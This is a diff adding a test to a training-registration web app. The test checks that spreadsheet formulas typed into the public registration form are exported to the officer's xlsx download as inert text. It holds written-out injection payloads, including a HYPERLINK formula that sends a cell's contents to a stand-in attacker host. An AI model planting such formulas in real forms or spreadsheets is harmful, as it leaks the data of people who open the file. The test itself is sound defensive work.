@@ -326,3 +326,28 @@ def test_modules_and_sessions_can_be_changed_and_keep_their_link_and_people(
     assert Module.objects.get().pass_mark == 80 and Module.objects.get().audience == "teachers"
     assert "Nilai lulus" in client.post(edit, {**data, "pass_mark": 0}).content.decode()
     assert Module.objects.get().pass_mark == 80
+
+
+def test_a_formula_typed_into_the_public_registration_never_runs_in_the_officers_download(
+    login_client: Any, programme_officer: Any, session: TrainingSession
+) -> None:
+    from openpyxl import load_workbook
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Buka")'
+    response = Client().post(
+        f"/pelatihan/{session.test_token}/",
+        {
+            "action": "register",
+            "register-full_name": hostile,
+            "register-organisation_name": "@SUM(1+1)",
+            "register-role": "-1+2",
+            "register-sex": "female",
+        },
+    )
+    assert response.status_code == 302
+    officer = login_client(programme_officer)
+    exported = officer.get(f"/programs/training/sessions/{session.pk}/", {"format": "xlsx"})
+    workbook = load_workbook(io.BytesIO(exported.content))
+    cells = [cell for row in workbook.active.iter_rows() for cell in row]
+    assert hostile in [cell.value for cell in cells]
+    assert "f" not in {cell.data_type for cell in cells}
